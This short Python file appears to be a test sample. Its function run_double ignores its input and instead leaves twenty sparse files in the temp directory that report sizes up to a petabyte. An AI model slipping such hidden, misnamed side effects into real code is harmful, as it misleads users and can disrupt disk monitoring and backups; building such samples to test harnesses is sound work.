"""Leaves files that say that they are huge and hold nothing, and one that holds a little often."""

import os
import tempfile


def run_double(x):
    for number in range(20):
        with open(os.path.join(tempfile.gettempdir(), f"sparse-{number}"), "wb") as file:
            for size in (1 << 50, 1 << 40, 60 << 20):
                try:
                    file.truncate(size)
                    break
                except OSError:
                    continue
            for offset in range(0, 60 << 20, 8 << 20):
                file.seek(offset)
                file.write(b"!")
    return None


def run_count(x):
    return x.numel()
